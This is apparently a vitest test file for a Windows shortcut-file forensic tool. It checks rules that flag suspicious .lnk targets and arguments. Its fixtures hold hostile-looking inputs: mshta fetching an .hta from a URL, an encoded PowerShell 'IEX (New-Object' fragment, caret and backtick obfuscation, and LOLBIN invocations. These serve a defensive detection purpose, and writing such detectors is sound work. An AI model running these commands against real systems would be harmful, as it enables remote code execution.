import { describe, expect, it } from 'vitest';
import { argumentsCell, argumentTricks } from '../../src/shortcuts/argument-tricks.js';
import type { ShortcutEntry } from '../../src/shortcuts/entry.js';
import { judgeShortcut } from '../../src/shortcuts/suspicious-rules.js';

/** An entry as the parser would give a standalone link to `targetPath`. */
const entry = (targetPath: string, extra: Partial<ShortcutEntry> = {}): ShortcutEntry => ({
  input: { position: 0, fileId: 'f0', name: 'x.lnk', size: 0, sha256: '' },
  member: null,
  source: 'x.lnk',
  fileName: 'x.lnk',
  recordId: 1,
  container: 'link',
  appId: null,
  application: null,
  entry: null,
  category: null,
  targetPath,
  targetKind: 'local',
  idListPath: '',
  arguments: '',
  workingDirectory: '',
  iconLocation: '',
  iconIndex: 0,
  description: '',
  relativePath: '',
  environmentTarget: '',
  iconEnvironment: '',
  created: null,
  modified: null,
  accessed: null,
  size: null,
  attributes: [],
  driveType: 'fixed',
  volumeSerial: null,
  volumeLabel: null,
  share: null,
  deviceName: null,
  tracker: null,
  lastAccess: null,
  accessCount: null,
  pinned: null,
  appendedBytes: 0,
  error: null,
  ...extra,
});

const judge = (e: ShortcutEntry, name: string | null = 'x.lnk') => {
  const { verdict, attack } = judgeShortcut(e, name);
  return { importance: verdict.importance, reasons: verdict.reasons, attack };
};

describe('argument tricks', () => {
  it('takes any prefix of -EncodedCommand and -ec, not other switches', () => {
    const b64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA';
    for (const sw of ['-e', '-en', '-enc', '-EncodedCommand', '/ec', '-encodedc']) expect(argumentTricks(`${sw} ${b64}`)[0]?.kind).toBe('encoded');
    expect(argumentTricks(`-ExecutionPolicy ${b64}`)).toEqual([]);
    expect(argumentTricks('-ex bypass -file a.ps1')).toEqual([]);
  });

  it('finds substrings of environment variables and backticks; a single caret or backtick is not obfuscation', () => {
    expect(argumentTricks('/c %COMSPEC:~-16,1%%COMSPEC:~-1%').map((t) => t.detail)).toEqual(['environment-variable substrings']);
    expect(argumentTricks('-c i`e`x $x').map((t) => t.detail)).toEqual(['backtick escapes (`)']);
    expect(argumentTricks('/c echo a^b')).toEqual([]);
  });

  it('shows padding as a marker with its length', () => {
    expect(argumentsCell(`a${' '.repeat(25)}b`)).toBe('a [25 blanks] b');
    expect(argumentsCell('a  b')).toBe('a  b');
  });
});

describe('Suspicious Shortcuts rules', () => {
  it('mshta with a URL: S1 in its folder (Medium) and L4 C3 (High)', () => {
    const v = judge(entry('C:\\Windows\\System32\\mshta.exe', { arguments: 'http://198.51.100.7/a.hta' }));
    expect(v.importance).toBe('High');
    expect(v.reasons).toEqual(['S1 L2 LOLBIN mshta with arguments', 'L4 C3 download or in-memory execution']);
    expect(v.attack).toEqual(['T1105', 'T1218.005']);
  });

  it('reads %SystemRoot% targets as C:\\Windows (no "outside its usual folder" on Start-menu links)', () => {
    expect(judge(entry('', { environmentTarget: '%SystemRoot%\\system32\\rundll32.exe', arguments: 'shell32.dll,Control_RunDLL' })).importance).toBe('Medium');
    expect(judge(entry('C:\\Users\\Public\\rundll32.exe', { arguments: 'x.dll,Start' })).reasons[0]).toBe(
      'S1 L2 LOLBIN rundll32 outside its usual folder with arguments',
    );
  });

  it('a LOLBIN named in the arguments of another program counts; ordinary words do not', () => {
    expect(judge(entry('C:\\Windows\\explorer.exe', { arguments: '/c start mshta vbscript:Execute("x")' })).reasons).toContain(
      'S1 LOLBIN mshta in the arguments',
    );
    expect(judge(entry('C:\\Program Files\\App\\app.exe', { arguments: '--at 5 --sc reg' })).reasons).toEqual([]);
  });

  it('appended bytes count for standalone links and automatic Jump List streams, not links inside a custom Jump List', () => {
    expect(judge(entry('C:\\a.txt', { appendedBytes: 10 })).reasons).toContain('S7 10 bytes appended after the link');
    expect(judge(entry('C:\\a.txt', { appendedBytes: 10, container: 'automaticDestinations' }), null).reasons).toContain('S7 10 bytes appended after the link');
    expect(judge(entry('C:\\a.txt', { appendedBytes: 10, container: 'customDestinations' }), null).reasons).not.toContain(
      'S7 10 bytes appended after the link',
    );
  });

  it('an executable with a document icon is S6; a document with one is not', () => {
    expect(judge(entry('C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe', { iconLocation: 'C:\\Users\\bob\\report.pdf' })).reasons).toContain(
      'S6 executable target with a .pdf icon',
    );
    expect(judge(entry('C:\\Users\\bob\\Documents\\a.docx', { iconLocation: 'C:\\Users\\bob\\report.pdf' })).reasons).toEqual([]);
  });

  it('WebDAV and URL targets are S4 Medium; a document on a plain share is nothing', () => {
    expect(judge(entry('\\\\docs.example@SSL\\DavWWWRoot\\a.docx')).reasons).toEqual(['S4 target is a WebDAV path']);
    expect(judge(entry('\\\\FILESRV\\Finance\\a.xlsx')).reasons).toEqual([]);
    expect(judge(entry('\\\\FILESRV\\Tools\\run.exe')).reasons).toEqual(['S4 executable target on a network share']);
  });
});
